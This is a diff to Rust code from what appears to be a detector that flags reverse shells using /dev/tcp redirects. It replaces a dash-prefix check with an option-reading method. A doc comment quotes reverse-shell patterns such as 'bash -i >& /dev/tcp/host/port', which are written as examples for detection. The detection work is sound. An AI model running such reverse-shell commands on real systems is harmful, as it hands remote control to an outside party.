@@ -128,7 +128,7 @@ fn connects_shell(call: &Call<'_>) -> Option<String> {
 /// `bash -i >& /dev/tcp/host/port`, or after `exec 5<>/dev/tcp/host/port`
 fn shell_on_wire(call: &Call<'_>) -> Option<String> {
     let on_wire = |command: &Command| command.redirects.iter().any(|redirect| is_wire_path(&redirect.target));
-    let has_script = call.arguments().iter().any(|word| !word.starts_with("-"));
+    let has_script = call.arguments().iter().any(|word| !word.reads_as_option());
     let opened = || {
         !has_script
             && call.others.iter().take(MAX_LOOKED_AT).any(|other| match other.program() {
@@ -153,7 +153,7 @@ fn fed_by_shell(wire: &str, call: &Call<'_>) -> Option<String> {
     let open_shell = |command: &Command| {
         let program = command.program().is_some_and(is_shell);
         program
-            && command.arguments().iter().all(|word| word.starts_with("-") && word.literal() != Some("-c"))
+            && command.arguments().iter().all(|word| word.reads_as_option() && word.literal() != Some("-c"))
     };
     behind
         .iter()
